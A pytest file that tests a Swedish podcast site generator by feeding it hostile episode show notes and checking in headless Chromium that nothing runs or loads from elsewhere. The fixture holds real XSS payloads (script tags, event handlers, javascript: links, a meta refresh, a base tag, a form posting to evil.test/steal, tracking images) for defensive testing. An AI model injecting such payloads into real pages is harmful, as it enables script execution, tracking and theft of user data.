"""Hostile show notes and titles in headless Chromium: nothing written into an episode.md
runs as script, loads from another host, redirects or submits anywhere, and the site's own
code (player, search) works under its Content-Security-Policy with no violation."""

from __future__ import annotations

import json
import urllib.request

import pytest
from site_showkit import NOW, make_show, transcript_json, wait_until

from podcast.serve import serve_in_thread
from podcast.site import build_site
from podcast.site.csp import CONTENT_SECURITY_POLICY
from podcast.workspace import Workspace

pytestmark = pytest.mark.slow

TITLE = "Snöröjning <!--<script> på vintern"
HOSTILE = """\
---
title: "Snöröjning <!--<script> på\\vvintern"
date: 2026-01-15T07:00:00
number: 1
description: "Vem plogar\\v din gata? </script><script>window.__pwned='desc'</script>"
chapters:
  - {start: "00:00", title: Inledning}
  - {start: "01:00", title: Plogordning}
---

Vanlig text om plogvallen.\x0b Mer text.

<img src=x onerror="window.__pwned='img'">
<img src="https://evil.test/spy.png" alt="spårpixel">
<img src="//evil.test/spy2.png" alt="spårpixel två">

[Klicka här](javascript:window.__pwned='md-link') och
<a href="javascript:window.__pwned='a'" id="jslink">JS-länk</a>
<a href="data:text/html,<script>alert(1)</script>">data-länk</a>

<meta http-equiv="refresh" content="0;url=https://evil.test/">
<base href="//evil.test/">
<form action="https://evil.test/steal"><input name="pnr"><button>Skicka</button></form>
<iframe src="https://evil.test/"></iframe>
<svg onload="window.__pwned='svg'"></svg>
<div style="background:url(https://evil.test/b.png)" onmouseover="window.__pwned=1">stil</div>
<script>window.__pwned='script'</script>

Slut på anteckningarna <script>window.__pwned='unclosed'

Den här texten får inte försvinna.
"""

WATCH = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    show = make_show(tmp_path_factory.mktemp("hostile") / "show", audio="real")
    # fractional start times: the page and the search page must show the same clock
    (show / "episodes" / "bygglov" / "transcript.json").write_text(json.dumps(transcript_json([
        (0.0, 10.0, None, "Hej och välkommen. I dag handlar det om bygglov för altaner."),
        (10.0, 24.7, None, "En altan lägre än 1,2 meter kräver oftast inget bygglov."),
        (24.7, 40.0, None, "Ett staket högre än 1,1 meter kan kräva bygglov.")]),
        ensure_ascii=False), encoding="utf-8")
    (show / "episodes" / "snorojning" / "episode.md").write_text(HOSTILE, encoding="utf-8")
    ws = Workspace.load(show)
    result = build_site(ws, now=NOW)
    assert result.search_indexed
    server, base = serve_in_thread(ws.site_dir)
    yield base, ws.site_dir
    server.shutdown()
    server.server_close()


@pytest.fixture
def page(browser, site):
    context = browser.new_context()
    context.add_init_script(WATCH)
    pg = context.new_page()
    pg.requests, pg.console, pg.failed = [], [], []
    pg.on("request", lambda r: pg.requests.append(r.url))
    pg.on("response", lambda r: r.status >= 400 and pg.failed.append(r.url))
    pg.on("console", lambda m: pg.console.append(f"{m.type}: {m.text}"))
    pg.on("pageerror", lambda e: pg.console.append(f"pageerror: {e}"))
    yield pg
    context.close()


def _assert_clean(page, base: str) -> None:
    assert page.evaluate("window.__pwned") is None
    assert page.evaluate("window.__csp") == []
    assert [m for m in page.console if m.startswith(("error", "pageerror"))
            and "Failed to load resource" not in m] == []
    # the one failing request is the notes' own broken image <img src=x onerror=...>
    assert all(u == base + "avsnitt/snorojning/x" for u in page.failed), page.failed
    assert page.requests and all(u.startswith(base) for u in page.requests), page.requests


def test_hostile_notes_run_no_script_and_load_nothing_from_elsewhere(page, site) -> None:
    base, _ = site
    page.goto(base + "avsnitt/snorojning/")
    page.wait_for_load_state("networkidle")
    _assert_clean(page, base)
    assert page.url == base + "avsnitt/snorojning/"  # no meta refresh
    assert page.locator("base, meta[http-equiv=refresh], form, iframe, svg, "
                        ".notes script, .notes [style]").count() == 0
    assert page.locator(".notes img").count() == 1  # only the same-site one ("x")
    notes = page.locator(".notes").inner_text()
    assert "Den här texten får inte försvinna." in notes  # the unclosed <script> cut nothing
    assert "spårpixel" in notes  # a third-party image leaves its text
    # the javascript: links lost their address: clicking them does nothing
    page.locator("#jslink, .notes a", has_text="JS-länk").click()
    page.get_by_text("Klicka här").click()
    page.get_by_text("stil").hover()
    assert page.evaluate("window.__pwned") is None
    assert page.url.startswith(base + "avsnitt/snorojning/")
    # the title cannot swallow the page and JSON-LD reads back as written
    assert page.locator("h1").inner_text() == TITLE
    data = json.loads(page.locator('script[type="application/ld+json"]').text_content())
    assert data["name"] == TITLE
    assert "</script>" in data["description"]
    assert page.locator("ol.transcript li").count() == 7  # the rest of the page is there
    assert page.get_attribute('meta[http-equiv="Content-Security-Policy"]',
                              "content") == CONTENT_SECURITY_POLICY


def test_player_works_under_the_policy(page, site) -> None:
    base, _ = site
    page.goto(base + "avsnitt/snorojning/")
    page.locator("#t-90 a.seg").click()
    wait_until(page, "Math.abs(document.getElementById('player').currentTime - 90) < 1.5")
    page.evaluate("document.getElementById('player').pause()")
    assert base + "static/player.js" in page.requests
    _assert_clean(page, base)


def test_search_works_under_the_policy_and_finds_the_hostile_episode(page, site) -> None:
    base, _ = site
    page.goto(base + "sok/?q=plogvallen")
    page.locator("#search-results li h2 a").first.wait_for(timeout=10_000)
    hits = page.locator("#search-results li h2 a")
    titles = hits.evaluate_all("a => a.map(x => x.textContent)")
    assert TITLE in titles  # '<!--<script>' in the title did not drop it from the index
    page.wait_for_load_state("networkidle")
    assert any(u.endswith(".wasm") or "wasm" in u for u in page.requests), page.requests
    _assert_clean(page, base)


@pytest.mark.parametrize("path", ["", "avsnitt/", "amnen/", "om/", "tillganglighet/",
                                  "avsnitt/bygglov/"])
def test_every_page_loads_with_no_policy_violation(page, site, path) -> None:
    base, _ = site
    page.goto(base + path)
    page.wait_for_load_state("networkidle")
    _assert_clean(page, base)


def test_served_header_is_the_same_policy(site) -> None:
    base, _ = site
    with urllib.request.urlopen(base + "avsnitt/snorojning/") as resp:
        assert resp.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY


def test_feed_carries_the_same_sanitised_notes(site) -> None:
    _, site_dir = site
    feed = (site_dir / "feed.xml").read_text(encoding="utf-8")
    item = feed.split("<item>")[-1] if "Snöröjning &lt;!--&lt;script&gt;" in feed.split(
        "<item>")[-1] else feed
    assert "Den här texten får inte försvinna." in item
    for bad in ("javascript:", "evil.test", "onerror", "<script", "<iframe", "<form",
                "<meta", "<base", "data:text"):
        assert bad not in feed, bad
    page_html = (site_dir / "avsnitt" / "snorojning" / "index.html").read_text()
    for bad in ("javascript:", "evil.test", "onerror", "<iframe", "<form", "<base",
                'http-equiv="refresh"', "data:text"):
        assert bad not in page_html, bad


def test_search_excerpts_skip_page_metadata_and_times_match_the_page(page, site) -> None:
    base, _ = site
    page.goto(base + "sok/?q=behöver")  # the lead's first word, right after the metadata line
    page.locator("#search-results li").first.wait_for(timeout=10_000)
    text = page.locator("#search-results li").first.inner_text()
    assert "Behöver" in text
    for metadata in ("Säsong", "Avsnitt 2", "Publicerat", "Längd"):
        assert metadata not in text, text
    page.goto(base + "sok/?q=staket")
    page.locator("#search-results li").first.wait_for(timeout=10_000)
    assert "Spela från 00:24" in page.locator("#search-results li").first.inner_text()
    page.goto(base + "avsnitt/bygglov/")
    assert page.locator("#t-24\\.7 .ts").inner_text() == "00:24"
    assert "Längd 00:40" in page.locator("p.meta").inner_text()
